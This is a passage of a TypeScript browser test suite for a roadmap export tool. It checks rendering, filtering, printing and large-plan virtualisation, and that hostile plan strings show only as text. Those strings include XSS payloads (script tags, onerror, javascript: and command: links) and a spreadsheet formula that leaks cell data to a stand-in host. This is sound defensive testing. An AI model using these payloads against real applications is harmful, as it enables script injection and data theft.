/**
 * The roadmap exports in a real browser: `plan-as-code render` (dist/cli.js, built by `npm run build`)
 * writes HTML and SVG from plans whose every string is hostile; headless Chromium (Debian's, driven by
 * playwright-core) opens them offline. Every bar is there, every plan string shows as text, nothing
 * from a plan runs, and the page requests nothing but itself. Also: the roadmap's interactions in the
 * HTML export, and virtualisation with thousands of projects.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { roadmapOutline, type RoadmapModel, type RoadmapOutline } from '../../src/core';
import { checkPrerequisites, cli, embeddedModel, embeddedOutline, figuresShown, landscape, launchBrowser, openOffline, printedText, repo, runCli, squeeze } from '../utils/browser';

/** Each tries to become markup, script or a request if inserted as HTML or SVG. */
const hostile = {
  portfolio: '<script>window.__pwned="portfolio";alert(1)</script>',
  program: '"><img src=x onerror="window.__pwned=\'program\';alert(1)">',
  goal: '<iframe src="https://example.invalid/"></iframe>',
  projectA: '<svg onload="window.__pwned=\'svg\'">A</svg>',
  projectB: ']]><script>window.__pwned="cdata"</script>',
  projectC: '</script><script>window.__pwned="json"</script><!--',
  description: '<a href="javascript:window.__pwned=\'link\'">click</a>',
  milestone: '<img src="https://example.invalid/track.png">',
  risk: '<style>*{display:none}</style>',
  issue: '{{constructor.constructor("window.__pwned=1")()}}',
  benefit: '<object data="x"></object>',
  manager: '<b onmouseover="window.__pwned=1">bob</b>',
  tag: '%%{init: {"securityLevel": "loose"}}%%',
  // A VS Code command link (Markdown and HTML), right-to-left override text, and a spreadsheet formula.
  projectD: '[run](command:workbench.action.terminal.new) <a href="command:workbench.action.terminal.new">run</a> \u202Eevil.exe\u202C',
  projectE: '=HYPERLINK("https://example.invalid/?leak="&A1,"open")',
};

const q = (text: string) => JSON.stringify(text);

const hostilePlan = [
  'version: 1',
  'portfolio:',
  '  id: pf',
  `  name: ${q(hostile.portfolio)}`,
  `  description: ${q(hostile.description)}`,
  `  owner: ${q(hostile.manager)}`,
  '  status_date: 2026-03-01',
  '  programs:',
  '    - id: prog',
  `      name: ${q(hostile.program)}`,
  `      goal: ${q(hostile.goal)}`,
  `      description: ${q(hostile.description)}`,
  `      manager: ${q(hostile.manager)}`,
  '      milestones:',
  '        - id: prog-ms',
  `          name: ${q(hostile.milestone)}`,
  '          date: 2026-02-20',
  '      risks:',
  `        - { title: ${q(hostile.risk)}, likelihood: 4, impact: 4, mitigation: ${q(hostile.risk)} }`,
  '      issues:',
  `        - { title: ${q(hostile.issue)}, severity: high }`,
  '      benefits:',
  `        - { name: ${q(hostile.benefit)}, value: 1000 }`,
  '      projects:',
  '        - id: a1',
  `          name: ${q(hostile.projectA)}`,
  `          description: ${q(hostile.description)}`,
  `          manager: ${q(hostile.manager)}`,
  '          start: 2026-01-05',
  '          duration: 6w',
  '          budget: 100',
  '          spent: 60',
  '          progress: 40',
  `          tags: [${q(hostile.tag)}]`,
  '          milestones:',
  `            - { id: a1-ms, name: ${q(hostile.milestone)}, date: 2026-01-30 }`,
  '        - id: a2',
  `          name: ${q(hostile.projectB)}`,
  '          depends_on: [a1]',
  '          duration: 4w',
  '          budget: 100',
  '        - id: a3',
  `          name: ${q(hostile.projectC)}`,
  '          start: 2026-01-20',
  '          depends_on: [a1]',
  '          duration: 3w',
  '          state: cancelled',
  '        - id: a4',
  `          name: ${q(hostile.projectD)}`,
  '          start: 2026-02-02',
  '          duration: 2w',
  '        - id: a5',
  `          name: ${q(hostile.projectE)}`,
  '          start: 2026-02-09',
  '          duration: 2w',
  '',
].join('\n');
const projectNames = [hostile.projectA, hostile.projectB, hostile.projectC, hostile.projectD, hostile.projectE];
const projectIds = ['a1', 'a2', 'a3', 'a4', 'a5'];

function render(args: string[], cwd = repo): void {
  runCli(['render', ...args], cwd);
}

async function count(page: Page, selector: string): Promise<number> {
  return page.locator(selector).count();
}

describe('roadmap export in a browser', function () {
  this.timeout(180_000);
  let browser: Browser;
  let work: string;

  before(async function () {
    checkPrerequisites([cli, path.join(repo, 'dist', 'webview.js')]);
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'plan-as-code-e2e-'));
    fs.mkdirSync(path.join(work, 'hostile'));
    fs.writeFileSync(path.join(work, 'hostile', 'hostile.plan.yaml'), hostilePlan);
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  it("cuts a name too long for the rollup table's column with an ellipsis, the whole name in its tooltip", async () => {
    const name = 'A very long project name that keeps going and going and going well past anything a column could ever show in full, really';
    fs.mkdirSync(path.join(work, 'long'));
    fs.writeFileSync(path.join(work, 'long', 'long.plan.yaml'), ['program:', '  id: g', '  name: G', '  projects:', '    - id: c', `      name: ${name}`, '      start: 2026-01-05', '      duration: 3d', ''].join('\n'));
    render(['long', '--out', 'long.html'], work);
    const { page } = await openOffline(browser, path.join(work, 'long.html'));
    await figuresShown(page);
    const cell = page.locator('table.rollup tbody th.name').last();
    type Box = { scrollWidth: number; clientWidth: number; title: string; getBoundingClientRect(): { right: number } };
    const shown = await cell.evaluate((th) => {
      const inner = th.firstElementChild as unknown as Box;
      const style = (globalThis as unknown as { getComputedStyle(e: unknown): { textOverflow: string } }).getComputedStyle(inner);
      return { cut: inner.scrollWidth > inner.clientWidth, ellipsis: style.textOverflow, fits: inner.getBoundingClientRect().right <= th.getBoundingClientRect().right + 0.5, title: inner.title };
    });
    assert.deepEqual(shown, { cut: true, ellipsis: 'ellipsis', fits: true, title: `${name} (c): open where it is defined` });
    await page.context().close();
  });

  it("labels a portfolio's sums of programs in several currencies with all of them (EUR+USD), not the first program's", async () => {
    fs.mkdirSync(path.join(work, 'currencies'));
    const program = (id: string, currency: string) => ['---', 'program:', `  id: ${id}`, `  name: ${id}`, '  portfolio: pf', `  currency: ${currency}`, '  projects:', `    - { id: ${id}-a, name: A, start: 2026-01-05, duration: 3d, budget: 1000 }`];
    fs.writeFileSync(path.join(work, 'currencies', 'pf.plan.yaml'), ['portfolio:', '  id: pf', '  name: PF', '  status_date: 2026-01-05', ...program('eu', 'EUR'), ...program('us', 'USD'), ''].join('\n'));
    render(['currencies', '--out', 'currencies.html'], work);
    const { page } = await openOffline(browser, path.join(work, 'currencies.html'));
    await figuresShown(page);
    const rows = await page.locator('table.rollup tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.children].map((cell) => cell.textContent ?? '')));
    const heads = await page.locator('table.rollup thead th').evaluateAll((ths) => ths.map((th) => th.textContent ?? ''));
    const bac = heads.findIndex((head) => head.startsWith('BAC'));
    assert.deepEqual(rows.map((row) => row[bac]), ['2.00k EUR+USD', '1.00k EUR', '1.00k EUR', '1.00k USD', '1.00k USD']);
    await page.context().close();
  });

  describe('HTML with hostile plan strings', () => {
    let page: Page;
    let requests: string[];
    let dialogs: string[];

    before(async () => {
      render(['hostile', '--out', 'roadmap.html'], work);
      ({ page, requests, dialogs } = await openOffline(browser, path.join(work, 'roadmap.html')));
      await figuresShown(page);
    });

    it('draws every project bar as an element with data-id', async () => {
      for (const id of projectIds) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
      assert.equal(await count(page, '[data-id]'), projectIds.length);
    });

    it('shows every plan string as text', async () => {
      assert.equal(await page.locator('h1.title').textContent(), hostile.portfolio);
      const table = (await page.locator('table.rollup').textContent()) ?? '';
      for (const name of [hostile.portfolio, hostile.program, ...projectNames]) assert.ok(table.includes(name), `table shows ${name}`);
      for (const [id, name] of projectIds.map((id, i) => [id, projectNames[i]])) {
        assert.ok((await page.locator(`[data-id="${id}"]`).getAttribute('aria-label'))?.startsWith(`${name} (${id})`), id);
      }
      await page.locator('[data-id="a1"] .body').hover();
      const tooltip = page.locator('.tooltip');
      await tooltip.waitFor({ state: 'visible' });
      assert.equal(await tooltip.locator('.tooltip-title').textContent(), hostile.projectA);
      assert.ok(((await tooltip.textContent()) ?? '').includes(hostile.milestone), 'the milestone name, as text');
    });

    it('runs nothing from the plan: no dialog, no trap, no CSP violation, no injected element', async () => {
      assert.deepEqual(dialogs, []);
      assert.equal(await page.evaluate('window.__pwned'), undefined);
      assert.deepEqual(await page.evaluate('window.__violations'), []);
      assert.equal(await count(page, 'img, iframe, object, embed, a[href], style:not(head > style)'), 0);
      assert.equal(await count(page, '[href*="command:"], [src*="command:"]'), 0, 'no command link');
      assert.equal(await count(page, 'script'), 3, 'the two data blocks and the bundle only');
      assert.equal(await count(page, 'script:not([type])'), 1);
    });

    it('requests nothing but the file itself', () => {
      assert.deepEqual(requests, []);
    });
  });

  describe('HTML of examples/ (the roadmap in use)', () => {
    let page: Page;
    let requests: string[];
    let dialogs: string[];
    const examples = () => JSON.parse(spawnSync(process.execPath, [cli, 'rollup', 'examples', '--format', 'json'], { cwd: repo, encoding: 'utf8' }).stdout) as {
      projects: Array<{ id: string; name: string; program?: string; figures: { health: string } }>;
    };

    before(async () => {
      render(['examples', '--out', path.join(work, 'examples.html')]);
      ({ page, requests, dialogs } = await openOffline(browser, path.join(work, 'examples.html')));
      await figuresShown(page);
    });

    it('has all 17 bars, the axis, the status line, milestones, arrows and the rollup table', async () => {
      const ids = examples().projects.map((p) => p.id);
      assert.equal(ids.length, 17);
      for (const id of ids) assert.equal(await count(page, `.chart [data-id="${id}"]`), 1, id);
      assert.ok((await count(page, '.axis text')) > 4);
      assert.equal(await count(page, '.chart .status-line'), 1);
      assert.ok((await count(page, '.chart .milestone.missed')) >= 1, 'checkout-beta is missed');
      assert.ok((await count(page, '.chart .dependency')) >= 5);
      assert.equal(await count(page, '.chart .bar.cancelled'), 1, 'wallets');
      assert.ok((await count(page, '.chart .bar.critical')) >= 1);
      assert.equal(await count(page, 'table.rollup tbody tr'), 1 + 3 + 17);
      assert.equal(await page.locator('p.subtitle').textContent(), 'Status date 2026-09-30 · 17 projects in 3 programs');
      // wallets is cancelled: grey in the label column and the table, whatever its figures say.
      assert.equal(await count(page, '.labels [data-project="wallets"] circle.dot.health-none'), 1);
      assert.equal(await count(page, 'table.rollup tr.cancelled td.health.health-none'), 1);
      assert.deepEqual(requests, []);
      assert.deepEqual(dialogs, []);
    });

    it('filters by health', async () => {
      const red = examples().projects.filter((p) => p.figures.health === 'red').map((p) => p.id).sort();
      await page.locator('label.check.health-green input').uncheck();
      await page.locator('label.check.health-amber input').uncheck();
      const shown = await page.locator('.chart [data-id]').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-id')));
      assert.deepEqual([...shown].sort(), red);
      await page.locator('label.check.health-green input').check();
      await page.locator('label.check.health-amber input').check();
      assert.equal(await count(page, '.chart [data-id]'), 17);
    });

    it('filters by name or id, and by program', async () => {
      const ids = async () => [...(await page.locator('.chart .bar[data-id]').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-id'))))].sort();
      type Doc = { document: { querySelectorAll(selector: string): { length: number } } };
      const bars = (n: number) => page.waitForFunction((count) => (globalThis as unknown as Doc).document.querySelectorAll('.chart .bar[data-id]').length === count, n);
      const all = examples().projects;
      // By name or id, ignoring case: "MIGRAT" is in some names and ids, not in the others.
      await page.locator('input[type="search"]').fill('MIGRAT');
      const matching = all.filter((p) => `${p.id} ${p.name}`.toLowerCase().includes('migrat')).map((p) => p.id).sort();
      assert.ok(matching.length >= 3 && matching.length < all.length, matching.join(', '));
      await bars(matching.length);
      assert.deepEqual(await ids(), matching);
      await page.locator('input[type="search"]').fill('');
      await bars(all.length);
      // By program: only its projects.
      const program = page.locator('select[aria-label="Program"]');
      const platform = await program.locator('option').evaluateAll((options) => options.find((o) => /platform/i.test(o.textContent ?? ''))?.getAttribute('value'));
      assert.ok(platform, 'a Platform option');
      await program.selectOption(platform);
      const inPlatform = all.filter((p) => p.program === 'platform').map((p) => p.id).sort();
      assert.ok(inPlatform.length > 0 && inPlatform.length < all.length);
      await bars(inPlatform.length);
      assert.deepEqual(await ids(), inPlatform);
      await program.selectOption('');
      await bars(all.length);
    });

    it('is keyboard accessible: Tab reaches a bar, arrows move between bars, + and - zoom', async () => {
      await page.locator('.scroller').focus();
      await page.keyboard.press('Tab');
      assert.equal(typeof (await page.evaluate('document.activeElement?.getAttribute("data-id")')), 'string', 'Tab lands on a bar');
      await page.locator('.scroller').focus();
      await page.keyboard.press('ArrowDown');
      const first = await page.evaluate('document.activeElement?.getAttribute("data-id")');
      assert.equal(typeof first, 'string');
      await page.keyboard.press('ArrowDown');
      const second = await page.evaluate('document.activeElement?.getAttribute("data-id")');
      assert.ok(typeof second === 'string' && second !== first, `${first} then ${second}`);
      assert.equal(await count(page, '.chart [data-id][tabindex="0"]'), 1, 'one tab stop in the chart');
      const width = async () => Number((await page.locator('svg.chart').getAttribute('style'))?.match(/width: (\d+)px/)?.[1]);
      const before = await width();
      await page.keyboard.press('+');
      assert.ok((await width()) > before, 'zoomed in');
      await page.keyboard.press('-');
      await page.keyboard.press('-');
      assert.ok((await width()) < before, 'zoomed out');
      assert.equal(await page.evaluate('document.activeElement?.getAttribute("data-id")'), second, 'focus stays on the bar');
      // Ctrl+wheel zooms around the pointer (a plain wheel scrolls).
      const box = (await page.locator('.scroller').boundingBox())!;
      await page.mouse.move(box.x + box.width * 0.6, box.y + 120);
      const widthBefore = await width();
      await page.keyboard.down('Control');
      await page.mouse.wheel(0, -240);
      await page.keyboard.up('Control');
      // Poll rather than sleep: under load the wheel event may take a while to be drawn.
      await page.waitForFunction(
        (previous) => {
          const chart = (globalThis as unknown as { document: { querySelector(s: string): { getAttribute(a: string): string | null } | null } }).document.querySelector('svg.chart');
          return Number(chart?.getAttribute('style')?.match(/width: (\d+)px/)?.[1]) > previous;
        },
        widthBefore,
        { timeout: 10_000 },
      );
      assert.ok((await width()) > widthBefore, 'ctrl+wheel zoomed in');
    });

    it('sorts the table and zooms with the buttons', async () => {
      await page.locator('th button.sort', { hasText: 'CPI' }).click();
      assert.equal(await page.locator('th', { hasText: 'CPI' }).getAttribute('aria-sort'), 'descending');
      await page.locator('button', { hasText: 'Weeks' }).click();
      assert.equal(await page.locator('button', { hasText: 'Weeks' }).getAttribute('aria-pressed'), 'true');
    });
  });

  describe('printing the HTML roadmap', () => {
    /** The toolbar's own words: none may be printed. */
    const toolbarWords = ['Copy as Markdown', 'Copy as CSV', 'Quarters', 'Weeks', 'All programs', 'Filter projects'];

    for (const format of ['A4', 'Letter'] as const) {
      it(`prints the whole plan on ${format} landscape: every program, project and table row, no toolbar, and the screen comes back`, async () => {
        render(['examples', '--out', path.join(work, 'print.html')]);
        // A window 1,000 px high shows 10 of the 21 table rows on screen; the printout has them all.
        const { page, requests } = await openOffline(browser, path.join(work, 'print.html'), { viewport: { width: 1000, height: 1000 } });
        await figuresShown(page);
        const json = JSON.parse(spawnSync(process.execPath, [cli, 'rollup', 'examples', '--format', 'json'], { cwd: repo, encoding: 'utf8' }).stdout) as {
          programs: Array<{ name: string }>;
          projects: Array<{ id: string; name: string }>;
        };
        const zoomBefore = await page.locator('svg.chart').getAttribute('style');
        const { text } = await printedText(page, format, path.join(work, `roadmap-${format}.pdf`));
        const pdf = squeeze(text);
        for (const program of json.programs) assert.ok(pdf.includes(squeeze(program.name)), program.name);
        for (const project of json.projects) assert.ok(pdf.includes(squeeze(project.name)), project.name);
        const cells = await page.locator('table.rollup tbody tr').evaluateAll((rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent ?? '')));
        assert.equal(cells.length, 1 + 3 + 17);
        for (const row of cells) for (const cell of row) assert.ok(pdf.includes(squeeze(cell)), `cell "${cell}" of row ${row[0]}`);
        for (const words of toolbarWords) assert.ok(!pdf.includes(squeeze(words)), `no "${words}" in print`);
        // Every money cell names its currency.
        const bac = (await page.locator('table.rollup thead th').allTextContents()).indexOf('BAC');
        assert.ok(bac > 0, 'a BAC column');
        assert.ok(cells.every((row) => row[bac].endsWith(' USD')), 'BAC with its currency');
        // After printing, the chart is as it was on screen.
        assert.equal(await page.locator('svg.chart').getAttribute('style'), zoomBefore);
        // Printed, nothing is wider than the paper's printable width (10 mm margins).
        const width = landscape[format].width - 2 * Math.round((10 / 25.4) * 96);
        await page.emulateMedia({ media: 'print' });
        await page.setViewportSize({ width, height: landscape[format].height });
        await page.evaluate('window.dispatchEvent(new Event("beforeprint"))');
        const right = (await page.evaluate('Math.max(document.documentElement.scrollWidth, ...[...document.querySelectorAll("table, svg")].map((e) => e.getBoundingClientRect().right))')) as number;
        assert.ok(right <= width, `${right}px on a ${width}px page`);
        assert.equal(await page.locator('.toolbar').isVisible(), false);
        assert.deepEqual(requests, []);
        await page.context().close();
      });
    }

    it('shows a banner naming the error when a plan has one, and still draws the roadmap', async () => {
      const folder = path.join(work, 'broken-roadmap');
      fs.mkdirSync(folder, { recursive: true });
      fs.writeFileSync(path.join(folder, 'a.plan.yaml'), 'program:\n  id: alpha\n  name: Alpha\n  projects:\n    - id: one\n      name: One\n      start: 2026-01-05\n      duration: 4w\n    - id: two\n      name: Two\n      depends_on: [nowhere]\n      duration: 2w\n');
      render([folder, '--out', path.join(work, 'broken-roadmap.html')]);
      const { page } = await openOffline(browser, path.join(work, 'broken-roadmap.html'));
      await figuresShown(page);
      const banner = (await page.locator('.problems-banner').innerText()).replace(/\s+/g, ' ');
      assert.match(banner, /The plans have 1 error in 1 file, 0 warnings\./);
      assert.match(banner, /a\.plan\.yaml:11:\d+ unknown-reference .*nowhere/);
      assert.equal(await count(page, '.chart [data-id]'), 2);
      const { text } = await printedText(page, 'A4', path.join(work, 'broken-roadmap.pdf'));
      assert.ok(squeeze(text).includes('unknown-reference'));
      await page.context().close();
    });
  });

  describe('SVG', () => {
    it('shows every bar and every plan string as text, runs and requests nothing', async () => {
      render(['hostile', '--format', 'svg', '--out', 'roadmap.svg'], work);
      const { page, requests, dialogs } = await openOffline(browser, path.join(work, 'roadmap.svg'));
      for (const id of projectIds) assert.equal(await count(page, `[data-id="${id}"]`), 1, id);
      const text = (await page.locator('svg').first().textContent()) ?? '';
      for (const name of [hostile.portfolio, hostile.milestone]) assert.ok(text.includes(name), name);
      for (const name of projectNames) assert.ok(text.includes(name.slice(0, 20)), name);
      assert.equal(await count(page, 'script, img, iframe, foreignObject'), 0);
      assert.equal(await page.evaluate('window.__pwned'), undefined);
      assert.deepEqual(dialogs, []);
      assert.deepEqual(requests, []);
    });
  });

  describe('thousands of projects', () => {
    let file: string;
    let ids: string[];

    before(async () => {
      const { generateWorkspace, writeWorkspace } = await import(pathToFileURL(path.join(repo, 'bench', 'generate.mjs')).href);
      const folder = path.join(work, 'medium');
      writeWorkspace(generateWorkspace('M', 7), folder);
      file = path.join(work, 'medium.html');
      render([folder, '--out', file]);
      ids = [...embeddedOutline(fs.readFileSync(file, 'utf8')).bars.id];
      assert.ok(ids.length >= 1500, `${ids.length} projects`);
    });

    it('keeps the DOM small and draws the rows scrolled to', async () => {
      const { page, requests } = await openOffline(browser, file);
      await figuresShown(page);
      const elements = (await page.evaluate('document.getElementsByTagName("*").length')) as number;
      assert.ok(elements <= 2000, `${elements} elements for ${ids.length} projects`);
      assert.ok((await count(page, '.chart [data-id]')) < 100, 'only the visible window of bars');
      assert.equal(await count(page, `[data-id="${ids.at(-1)}"]`), 0);
      await page.locator('.scroller').evaluate((scroller) => (scroller.scrollTop = scroller.scrollHeight));
      await page.locator(`.chart [data-id="${ids.at(-1)}"]`).waitFor({ state: 'attached' });
      assert.ok((await page.evaluate('document.getElementsByTagName("*").length')) as number <= 2000);
      assert.deepEqual(requests, []);
      await page.context().close();
    });

    it('paints the first screen on a canvas before it reads the outline, each bar where and as the outline\'s frame then draws it', async () => {
      // Keeps each poster canvas the page shows (it stays readable once taken away) and where it was.
      const initScript = `
        window.__posters = [];
        new MutationObserver((records) => {
          for (const record of records) for (const node of record.addedNodes)
            if (node instanceof HTMLCanvasElement && node.classList.contains('poster')) {
              // Where the poster and the toolbar are, and whether printing would show it.
              const toolbar = [...document.querySelectorAll('.toolbar button, .toolbar select, .toolbar input')].map((e) => [e.getBoundingClientRect().toJSON(), e.getAttribute('aria-pressed')]);
              const print = window.matchMedia('print').matches;
              window.__posters.push({ canvas: node, box: node.getBoundingClientRect().toJSON(), toolbar, print });
            }
        }).observe(document, { childList: true, subtree: true });
      `;
      const { page, requests, dialogs } = await openOffline(browser, file, { initScript, viewport: { width: 1400, height: 1300 } });
      await figuresShown(page);
      const marks = (await page.evaluate(`Object.fromEntries(performance.getEntriesByType('mark').filter((m) => m.name.startsWith('roadmap:')).map((m) => [m.name, { startTime: m.startTime, detail: m.detail }]))`)) as Record<string, { startTime: number; detail: Record<string, unknown> | null }>;
      const painted = marks['roadmap:painted'];
      assert.deepEqual({ ...painted.detail, bars: (painted.detail!.bars as number) > 10 }, { bars: true, milestones: 0, figures: false, clock: 'first-contentful-paint', poster: true });
      // Then the outline's frame, drawn over the poster's place, takes it away.
      assert.ok(marks['roadmap:data'].startTime < painted.startTime && painted.startTime < marks['roadmap:frame'].startTime, JSON.stringify(marks));
      assert.equal(await count(page, 'canvas'), 0);
      assert.equal(await page.evaluate('window.__posters.length'), 1);
      // Nothing moves when the chart replaces the poster: the chart's box is the poster's, the toolbar (its filters filled, its zoom pressed) as it was.
      const steady = (await page.evaluate(`(() => {
        const { box, toolbar } = window.__posters[0];
        const scroller = document.querySelector('.scroller').getBoundingClientRect();
        const now = [...document.querySelectorAll('.toolbar button, .toolbar select, .toolbar input')].map((e) => [e.getBoundingClientRect().toJSON(), e.getAttribute('aria-pressed')]);
        const whole = (r) => [r.left, r.top, r.width, r.height].map(Math.round);
        return { box: whole(box), chart: whole(scroller), toolbar: JSON.stringify(toolbar) === JSON.stringify(now), pressed: now.filter(([, p]) => p === 'true').length };
      })()`)) as { box: number[]; chart: number[]; toolbar: boolean; pressed: number };
      assert.deepEqual({ ...steady, chart: steady.box }, { box: steady.chart, chart: steady.box, toolbar: true, pressed: 1 });
      // Printed while it is up, the page leaves it out.
      await page.emulateMedia({ media: 'print' });
      assert.equal(await page.evaluate(`(() => { const c = document.createElement('canvas'); c.className = 'poster'; document.querySelector('.timeline').append(c); const d = getComputedStyle(c).display; c.remove(); return d; })()`), 'none');
      await page.emulateMedia({ media: 'screen' });
      // Each bar in the poster's view: the poster's pixel just inside the bar's left end is the colour the chart's SVG gives it there.
      const compared = (await page.evaluate(`(() => {
        const { canvas, box } = window.__posters[0];
        const context = canvas.getContext('2d');
        const ratio = canvas.width / box.width;
        const rgb = (text) => text.match(/[\\d.]+/g).slice(0, 3).map(Number);
        const bg = rgb(getComputedStyle(document.body).backgroundColor);
        const out = [];
        for (const body of document.querySelectorAll('.chart [data-id] > .body')) {
          const r = body.getBoundingClientRect();
          // Just inside the bar's left end, or the chart's when the bar starts left of it.
          const left = Math.max(r.left + 1.5, box.left + 305);
          const x = left - box.left;
          const y = r.top + r.height / 2 - box.top;
          if (y < 44 || y > box.height - 4 || left > r.right - 1.5 || x > box.width - 20) continue;
          const group = body.parentElement;
          // Where the colour is known: inside the progress (opaque), else on the body alone (over the background).
          const progress = group.querySelector(':scope > .progress');
          const forecast = group.querySelector(':scope > .forecast');
          const done = progress ? progress.getBoundingClientRect().right : -Infinity;
          if (Math.abs(left - done) < 2) continue;
          if (left > done && forecast && left < forecast.getBoundingClientRect().right + 1) continue;
          const style = getComputedStyle(left < done ? progress : body);
          const alpha = Number(style.fillOpacity);
          const expected = rgb(style.fill).map((c, i) => Math.round(c * alpha + bg[i] * (1 - alpha)));
          const pixel = (at) => [...context.getImageData(Math.floor(at * ratio), Math.floor(y * ratio), 1, 1).data.slice(0, 3)];
          const poster = pixel(x);
          // Where the progress begins (the bar's left end) and ends in the poster, against the chart: the first
          // and the last pixel of its colour around each, to a pixel.
          const edges = [];
          if (progress && done - r.left >= 6) {
            const colour = rgb(getComputedStyle(progress).fill);
            const ofColour = (at) => pixel(at).every((c, i) => Math.abs(c - colour[i]) <= 12);
            const first = r.left - box.left;
            const last = done - box.left;
            if (first > 310) for (let at = first - 6; at <= first + 6; at += 1 / ratio) if (ofColour(at)) { edges.push(at - first); break; }
            if (last > 310 && last < x + box.width && r.right - done > 3) for (let at = last + 6; at >= last - 6; at -= 1 / ratio) if (ofColour(at)) { edges.push(at + 1 / ratio - last); break; }
          }
          out.push({ id: group.dataset.id, poster, expected, edges });
        }
        return out;
      })()`)) as Array<{ id: string; poster: number[]; expected: number[]; edges: number[] }>;
      assert.ok(compared.length >= 12, `${compared.length} bars compared`);
      const off = compared.filter(({ poster, expected }) => poster.some((c, i) => Math.abs(c - expected[i]) > 12));
      assert.deepEqual(off, []);
      const edges = compared.flatMap((bar) => bar.edges.map((edge) => ({ id: bar.id, edge })));
      assert.ok(edges.length >= 6, `${edges.length} ends of progress compared`);
      assert.deepEqual(edges.filter(({ edge }) => Math.abs(edge) > 1.5), []);
      assert.deepEqual(dialogs, []);
      assert.deepEqual(requests, []);
      await page.context().close();
    });

    it('draws the outline first, and whole, when the poster block cannot be painted or its paint is never reported', async () => {
      const html = fs.readFileSync(file, 'utf8');
      const poster = /<script type="application\/json" id="roadmap-poster">([^<]*)<\/script>/.exec(html)!;
      const good = JSON.parse(poster[1]) as { outline: { range: { start: number; end: number } } };
      const edited = (name: string, value: string) => {
        const out = path.join(work, `medium-${name}.html`);
        fs.writeFileSync(out, html.replace(poster[0], `<script type="application/json" id="roadmap-poster">${value}</script>`));
        return out;
      };
      const opened = async (at: string, also = '') => {
        const initScript = `window.__marks = []; const mark = performance.mark.bind(performance); performance.mark = (name, options) => { if (name.startsWith('roadmap:')) window.__marks.push(name); return mark(name, options); }; ${also}`;
        const { page, dialogs } = await openOffline(browser, at, { initScript });
        await figuresShown(page);
        const shown = (await page.evaluate(`({ bars: document.querySelectorAll('.chart [data-id]').length, canvases: document.querySelectorAll('canvas').length, scrollLeft: document.querySelector('.scroller').scrollLeft, pressed: document.querySelector('.toolbar [aria-pressed="true"]')?.textContent })`)) as Record<string, unknown>;
        // The marks in the order they were made (a mark's time can be earlier than when it is made).
        const marks = (await page.evaluate('window.__marks')) as string[];
        await page.context().close();
        return { shown, marks, dialogs };
      };
      const whole = await opened(file);
      assert.ok((whole.shown.bars as number) > 10);
      // A block that says it is a poster but holds no such thing, or not JSON at all: the outline's frame is the first, nothing is lost.
      for (const [name, value] of [['bare', '{"version":1,"outline":{"version":1}}'], ['lanes', JSON.stringify({ ...good, lanes: null })], ['broken', '{"version":1,']]) {
        const result = await opened(edited(name, value));
        assert.deepEqual(result, { ...whole, marks: result.marks }, name);
        assert.deepEqual(result.marks.slice(0, 3), ['roadmap:data', 'roadmap:frame', 'roadmap:painted'], name);
      }
      // A poster of another range (edited by hand) paints, but the chart opens where the whole outline's range puts it.
      const other = await opened(edited('range', JSON.stringify({ ...good, outline: { ...good.outline, range: { start: good.outline.range.start, end: good.outline.range.start + 10 } } })));
      assert.deepEqual(other.shown, whole.shown);
      // No paint reported (as for a page not shown): the outline is drawn without waiting for one.
      const unreported = await opened(file, `
        const Observer = window.PerformanceObserver;
        window.PerformanceObserver = class extends Observer { constructor(callback) { super((list, observer) => callback({ getEntries: () => [], getEntriesByName: () => [] }, observer)); } };
        window.PerformanceObserver.supportedEntryTypes = Observer.supportedEntryTypes;
      `);
      assert.deepEqual(unreported.shown, whole.shown);
      assert.ok(unreported.marks.indexOf('roadmap:frame') < unreported.marks.indexOf('roadmap:painted'), unreported.marks.join(' '));
      assert.deepEqual([...whole.dialogs, ...other.dialogs, ...unreported.dialogs], []);
    });

    it('paints the bars first, from the outline alone, and the figures, milestones and arrows after that frame', async () => {
      const { page, requests, dialogs } = await openOffline(browser, file);
      await figuresShown(page);
      type Mark = { name: string; startTime: number; detail: { bars: number; milestones: number; figures: boolean; clock?: string } | null };
      const marks = (await page.evaluate(
        `Object.fromEntries(performance.getEntriesByType('mark').filter((m) => m.name.startsWith('roadmap:')).map((m) => [m.name, { name: m.name, startTime: m.startTime, detail: m.detail }]))`,
      )) as Record<string, Mark>;
      const painted = marks['roadmap:painted'];
      // The first frame on screen had bars, and neither figures nor milestones; the browser's paint timing says when it was shown.
      assert.ok(painted.detail!.bars > 10, `${painted.detail!.bars} bars in the first frame`);
      assert.deepEqual([painted.detail!.milestones, painted.detail!.figures, painted.detail!.clock], [0, false, 'first-contentful-paint']);
      // Data → first frame handed over → details read → the frame with the figures.
      const at = (name: string) => marks[name].startTime;
      assert.ok(at('roadmap:data') < at('roadmap:frame') && at('roadmap:data') < at('roadmap:painted'), JSON.stringify(marks));
      assert.ok(at('roadmap:frame') <= at('roadmap:details') && at('roadmap:painted') <= at('roadmap:details') && at('roadmap:details') < at('roadmap:figures'), JSON.stringify(marks));
      assert.equal(marks['roadmap:figures'].detail!.figures, true);
      assert.ok((await count(page, '.chart .milestone')) > 0, 'milestones after the details');
      assert.ok((await count(page, '.chart .dependency')) > 0, 'arrows after the details');
      assert.ok((await count(page, 'table.rollup tbody tr:not(.spacer)')) > 10, 'table rows');
      assert.deepEqual(dialogs, []);
      assert.deepEqual(requests, []);
      await page.context().close();
    });

    it('shows every project: scrolled through, the chart draws each bar of the outline, and the table lists each', async () => {
      const { page, dialogs } = await openOffline(browser, file, { viewport: { width: 1400, height: 2400 } });
      await figuresShown(page);
      // Scrolls a virtualised list a window at a time, after each scroll waiting two frames (the redraw
      // runs in the first), collecting ids. A string: the function would be rewritten by the test's compiler.
      const collect = async (scroller: string, selector: string, attribute: string) =>
        (await page.evaluate(`(async () => {
          const box = document.querySelector(${JSON.stringify(scroller)});
          const seen = new Set();
          const frame = () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
          for (let top = 0; ; top += Math.max(100, box.clientHeight - 100)) {
            box.scrollTop = top;
            await frame();
